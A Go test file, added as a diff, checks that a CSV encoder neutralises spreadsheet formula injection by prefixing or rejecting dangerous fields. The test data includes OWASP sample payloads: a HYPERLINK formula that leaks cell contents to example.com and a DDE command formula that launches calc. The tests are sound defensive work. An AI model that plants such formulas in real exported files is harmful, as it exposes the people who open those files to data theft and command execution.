@@ -0,0 +1,181 @@
+package headercsv
+
+import (
+	"bytes"
+	"errors"
+	"strings"
+	"testing"
+)
+
+func TestEncoder_Sanitize(t *testing.T) {
+	// test cases from https://owasp.org/www-community/attacks/CSV_Injection
+	testcases := []struct {
+		in   string
+		want string
+	}{
+		{"=1+2", "'=1+2"},
+		{"+1+2", "'+1+2"},
+		{"-1+2", "'-1+2"},
+		{"@SUM(1+2)", "'@SUM(1+2)"},
+		{"\t=1+2", "'\t=1+2"},
+		{"\r=1+2", "\"'\r=1+2\""},
+		{`=HYPERLINK("http://example.com?leak="&A1,"Error: please click me!")`, `"'=HYPERLINK(""http://example.com?leak=""&A1,""Error: please click me!"")"`},
+		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
+		{"hello", "hello"},
+		{"a=b", "a=b"},
+		{"", ""},
+	}
+
+	for _, tc := range testcases {
+		var buf bytes.Buffer
+		enc := NewEncoder(&buf)
+		enc.Sanitize = SanitizePrefix
+		if err := enc.SetHeader([]string{"a"}); err != nil {
+			t.Fatal(err)
+		}
+		if err := enc.EncodeRecord(map[string]string{"a": tc.in}); err != nil {
+			t.Fatal(err)
+		}
+		enc.Flush()
+		got := strings.TrimSuffix(strings.TrimPrefix(buf.String(), "a\n"), "\n")
+		if got != tc.want {
+			t.Errorf("%q: got %q, want %q", tc.in, got, tc.want)
+		}
+	}
+}
+
+type sanitizeText string
+
+func (s sanitizeText) MarshalText() ([]byte, error) {
+	return []byte(s), nil
+}
+
+func TestEncoder_SanitizeFields(t *testing.T) {
+	type record struct {
+		Comment string       `csv:"comment"`
+		Text    sanitizeText `csv:"text"`
+		Amount  string       `csv:"amount,nosanitize"`
+		Number  int          `csv:"number"`
+		Pointer *string      `csv:"pointer"`
+	}
+	s := "@foo"
+	in := []record{{"=1+2", "+1", "-12.5", -5, &s}}
+
+	var buf bytes.Buffer
+	enc := NewEncoder(&buf)
+	enc.Sanitize = SanitizePrefix
+	if err := enc.EncodeAll(in); err != nil {
+		t.Fatal(err)
+	}
+	enc.Flush()
+	want := "comment,text,amount,number,pointer\n'=1+2,'+1,-12.5,-5,'@foo\n"
+	if buf.String() != want {
+		t.Errorf("got %q, want %q", buf.String(), want)
+	}
+}
+
+func TestEncoder_SanitizeReject(t *testing.T) {
+	var buf bytes.Buffer
+	enc := NewEncoder(&buf)
+	enc.Sanitize = SanitizeReject
+	err := enc.EncodeAll([]map[string]string{{"a": "safe"}, {"a": "=1+2"}})
+	var encodeErr *EncodeError
+	if !errors.As(err, &encodeErr) {
+		t.Fatalf("want EncodeError, got %v", err)
+	}
+	if encodeErr.Record != 2 {
+		t.Errorf("got %d, want 2", encodeErr.Record)
+	}
+	if !errors.Is(err, ErrFormulaInjection) {
+		t.Errorf("want ErrFormulaInjection, got %v", err)
+	}
+}
+
+func TestEncoder_SanitizeCustom(t *testing.T) {
+	var buf bytes.Buffer
+	enc := NewEncoder(&buf)
+	enc.Sanitize = func(field string) (string, error) {
+		return strings.TrimLeft(field, "=+-@\t\r"), nil
+	}
+	if err := enc.EncodeAll([]map[string]string{{"a": "=1+2"}}); err != nil {
+		t.Fatal(err)
+	}
+	enc.Flush()
+	if buf.String() != "a\n1+2\n" {
+		t.Errorf("got %q, want %q", buf.String(), "a\n1+2\n")
+	}
+}
+
+func TestEncoder_SanitizeHeader(t *testing.T) {
+	t.Run("map keys", func(t *testing.T) {
+		var buf bytes.Buffer
+		enc := NewEncoder(&buf)
+		enc.Sanitize = SanitizePrefix
+		if err := enc.EncodeRecord(map[string]string{`=HYPERLINK("x")`: "=1"}); err != nil {
+			t.Fatal(err)
+		}
+		enc.Flush()
+		want := "\"'=HYPERLINK(\"\"x\"\")\"\n'=1\n"
+		if buf.String() != want {
+			t.Errorf("got %q, want %q", buf.String(), want)
+		}
+	})
+
+	t.Run("JSON keys", func(t *testing.T) {
+		var buf bytes.Buffer
+		enc := NewEncoder(&buf)
+		enc.Sanitize = SanitizePrefix
+		if err := enc.EncodeJSONLines(strings.NewReader(`{"@a":1,"b":2}`+"\n"+`{"+c":3}`), nil); err != nil {
+			t.Fatal(err)
+		}
+		enc.Flush()
+		want := "'@a,b,'+c\n1,2,\n,,3\n"
+		if buf.String() != want {
+			t.Errorf("got %q, want %q", buf.String(), want)
+		}
+	})
+
+	t.Run("reject", func(t *testing.T) {
+		var buf bytes.Buffer
+		enc := NewEncoder(&buf)
+		enc.Sanitize = SanitizeReject
+		err := enc.EncodeRecord(map[string]string{"=a": "1"})
+		var encodeErr *EncodeError
+		if !errors.As(err, &encodeErr) || encodeErr.Record != 0 || encodeErr.Field != "=a" {
+			t.Errorf("want EncodeError of the header, got %v", err)
+		}
+		if !errors.Is(err, ErrFormulaInjection) {
+			t.Errorf("want ErrFormulaInjection, got %v", err)
+		}
+	})
+
+	t.Run("SetHeader and struct tags are written verbatim", func(t *testing.T) {
+		type record struct {
+			A string `csv:"-a"`
+		}
+		var buf bytes.Buffer
+		enc := NewEncoder(&buf)
+		enc.Sanitize = SanitizePrefix
+		if err := enc.EncodeAll([]record{{"-1"}}); err != nil {
+			t.Fatal(err)
+		}
+		enc.Flush()
+		if want := "-a\n'-1\n"; buf.String() != want {
+			t.Errorf("got %q, want %q", buf.String(), want)
+		}
+
+		buf.Reset()
+		enc = NewEncoder(&buf)
+		enc.Sanitize = SanitizePrefix
+		if err := enc.SetHeader([]string{"=a"}); err != nil {
+			t.Fatal(err)
+		}
+		if err := enc.EncodeRecord(map[string]string{"=a": "1"}); err != nil {
+			t.Fatal(err)
+		}
+		enc.Flush()
+		if want := "=a\n1\n"; buf.String() != want {
+			t.Errorf("got %q, want %q", buf.String(), want)
+		}
+	})
+}